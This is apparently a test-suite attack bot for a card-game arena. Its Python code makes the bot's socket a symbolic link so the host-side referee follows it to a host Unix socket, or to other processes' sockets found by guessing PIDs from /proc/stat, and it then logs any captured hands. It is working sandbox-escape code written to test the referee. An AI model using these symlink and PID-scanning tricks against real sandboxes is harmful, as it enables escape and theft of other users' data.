"""Attack bot 'attack_redirect' (tests/bots/README.md, issue 9): steering the referee's connection.

The referee dials a bot at ``/proc/<pid>/root/arena/work/bot.sock`` on the host. The
bot owns that folder, so it can make ``bot.sock`` a *symbolic link*: an absolute
link is then resolved by the referee against the host's root, not the sandbox's.

``python bot.py --out DIR --tag TAG --mode host --probe PATH``: for the first
second ``bot.sock`` points at ``PATH`` (a host Unix socket the test listens on),
then at the bot's own server (``real.sock``, a relative link). Effect to look for:
a connection on the test's listener.

``python bot.py --out DIR --tag TAG --mode partner``: a channel between the
processes of one entrant through the referee itself. Every process serves a
second socket, ``c-NS.sock`` (``NS`` = ``TAG-<entrant name>``), once it has
started. While it starts, ``bot.sock`` points in turn at
``/proc/N/root/arena/work/c-NS.sock`` for host pids ``N`` just below its own
(estimated from the host's fork counter, ``processes`` in ``/proc/stat``: see
:func:`candidate_pids`): the
referee, polling for the socket, connects to the first one that exists, i.e. an
earlier process of the same entrant, and from then on sends this seat's
requests, hands included, to that process. Each request arriving on a
``c-NS.sock`` for another seat is reported ``SUCCEEDED`` with that seat's hand.

Both modes write a line ``{"attack": "redirect:...", "tried": ...}`` per process before
they touch ``bot.sock`` (not a result: the bot cannot see whether the referee followed
the link) and play a random legal action.
"""

from __future__ import annotations

import argparse
import os
import re
import threading
import time

START = time.monotonic()
try:  # the host's fork counter, read first: the host pid of this process is close to it
    FORKS = int(re.search(r"^processes (\d+)$", open("/proc/stat").read(), re.M).group(1))
except (OSError, AttributeError):
    FORKS = 0

from attack_common import TOKEN, Reporter  # noqa: E402
from belote_arena_sdk import Bot, pb, serve  # noqa: E402
from belote_arena_sdk.cards import card_str  # noqa: E402
from belote_arena_sdk.server import start_server  # noqa: E402

WORK = "/arena/work"
SERVERS: list = []


def candidate_pids(below: int, above: int) -> list[int]:
    """Host pids where this process's partners may be, most likely first: the fork counter is the
    next pid until the host's ``pid_max`` is first reached; after that pids restart at 300 and skip
    the ones in use, so a pid drifts above ``(forks - 300) % (pid_max - 300) + 300`` by up to a few
    hundred per wrap. The sandbox's ``/proc/sys/kernel/pid_max`` is its own PID namespace's, so
    try the two usual host values (32768, 4194304)."""
    out: list[int] = []
    for pid_max in (4194304, 32768):
        if FORKS < pid_max:
            window = range(FORKS + 20, max(FORKS - below, 1), -1)
        else:
            est = (FORKS - 300) % (pid_max - 300) + 300
            window = range(min(est + above, pid_max - 1), max(est - below, 300), -1)
        out += [p for p in window if p not in out]
    return out


def point(link: str, target: str) -> None:
    """Make ``link`` a symbolic link to ``target`` (atomically: a new link renamed over it)."""
    tmp = f"{link}.{TOKEN}"
    os.symlink(target, tmp)
    os.replace(tmp, link)


class RandomBot(Bot):
    def decide(self, request: pb.DecideRequest) -> pb.Action:
        return self.rng.choice(request.legal_actions)


class CaptureBot(Bot):
    """Serves ``c-NS.sock``: whatever arrives here was meant for another process of this entrant."""

    def __init__(self, report: Reporter):
        super().__init__()
        self.report, self.seat = report, None

    def on_start_match(self, request: pb.StartMatchRequest) -> None:
        self.seat = request.seat
        self.report.write(attack="redirect:partner", result=f"SUCCEEDED: the referee's StartMatch for seat {self.seat} "
                          "arrived at this process's capture socket", captured_seat=self.seat)

    def decide(self, request: pb.DecideRequest) -> pb.Action:
        obs = request.observation
        hand = sorted(card_str(c) for c in obs.hand_cards)
        self.report.write(attack="redirect:partner", result=f"SUCCEEDED: seat {obs.seat}'s hand {hand} "
                          "arrived at another process of its entrant", captured_seat=obs.seat, hand=hand)
        return self.rng.choice(request.legal_actions)


def steer(mode: str, probe: str | None, ns: str, report: Reporter, span: int, above: int, dwell: float) -> None:
    link = os.environ.get("BELOTE_BOT_LISTEN", f"{WORK}/bot.sock")
    if mode == "host":
        report.write(attack="redirect:host-socket", tried=f"bot.sock -> {probe} for 1 s")
        point(link, probe)
        time.sleep(1.0)
        point(link, "real.sock")
        return
    pids = candidate_pids(span, above)
    report.write(attack="redirect:partner", tried=f"{len(pids)} pids from {pids[0]} to {pids[-1]}")
    for pid in pids:
        point(link, f"/proc/{pid}/root{WORK}/c-{ns}.sock")
        time.sleep(dwell)
    point(link, "real.sock")
    capture = CaptureBot(report)
    SERVERS.append(start_server(capture, f"unix:{WORK}/c-{ns}.sock")[0])  # a server dropped is stopped
    report.write(attack="redirect:partner", done=f"scanned in {time.monotonic() - START:.1f} s; capture socket served")


if __name__ == "__main__":
    p = argparse.ArgumentParser(add_help=False)
    p.add_argument("--out", required=True)
    p.add_argument("--tag", required=True)
    p.add_argument("--mode", choices=("host", "partner"), required=True)
    p.add_argument("--probe")
    p.add_argument("--span", type=int, default=200, help="pids below the estimate")
    p.add_argument("--above", type=int, default=1800, help="pids above it (drift after pid_max wraps)")
    p.add_argument("--dwell", type=float, default=0.001, help="seconds per pid (the referee polls every 5 ms; "
                   "a partner's threads make a window of ~30 pids)")
    args, rest = p.parse_known_args()
    bot = RandomBot()
    name = bot.info().name
    reporter = Reporter(args.out, bot="attack_redirect", name=name, mode=args.mode)
    threading.Thread(target=steer, args=(args.mode, args.probe, f"{args.tag}-{name}", reporter, args.span,
                                         args.above, args.dwell), daemon=True).start()
    raise SystemExit(serve(bot, ["--listen", f"{WORK}/real.sock", *rest]))
